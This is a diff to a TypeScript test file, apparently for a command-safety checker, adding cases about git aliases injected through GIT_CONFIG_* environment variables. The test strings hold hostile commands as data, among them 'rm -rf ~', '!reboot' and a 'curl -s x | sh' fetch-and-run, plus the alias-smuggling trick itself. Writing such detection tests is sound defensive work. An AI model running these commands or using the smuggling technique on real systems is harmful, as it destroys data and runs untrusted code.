@@ -16,6 +16,10 @@ const valid: Valid[] = [
   { cmd: "echo \"git -c 'alias.x=!rm -rf ~' x\"" },
   { cmd: "git commit -m \"git -c alias.x='!rm -rf ~' x\"" },
   { cmd: "ls # git -c 'alias.x=!rm -rf ~' x" },
+  { cmd: 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.st GIT_CONFIG_VALUE_0=status git st' },
+  { cmd: 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=cat git log' },
+  { cmd: "GIT_CONFIG_COUNT=0 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf ~' git x", note: 'a count of 0 sets nothing' },
+  { cmd: 'GIT_CONFIG_COUNT=$N git status', note: 'an unknown count, but no key given here' },
 ];
 
 const invalid: Invalid[] = [
@@ -25,6 +29,10 @@ const invalid: Invalid[] = [
   { cmd: "git -c 'alias.y=!sh -c \"rm -rf ~\"' -c alias.x=y x", note: 'through another alias', ruleId: R },
   { cmd: "sudo git -c 'alias.x=!reboot' x", ruleId: R },
   { cmd: "bash -c \"git -c 'alias.x=!rm -rf ~' x\"", ruleId: R },
+  { cmd: "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf ~' git x", note: 'in the environment', ruleId: R },
+  { cmd: "GIT_CONFIG_PARAMETERS=\"'alias.x'='!curl -s x | sh'\" git x", ruleId: R },
+  { cmd: 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0="$K" GIT_CONFIG_VALUE_0=x git status', note: 'a setting warden cannot name may be this alias', ruleId: R },
+  { cmd: "GIT_CONFIG_COUNT=$N GIT_CONFIG_KEY_3=alias.status GIT_CONFIG_VALUE_3='!reboot' git status", note: 'an unknown count reads every key given', ruleId: R },
   { cmd: "git -c 'alias.x=!rm -rf ~' x", note: 'strict preset', ruleId: R, action: 'deny', opts: { policy: 'preset: strict\n' } },
 ];
 
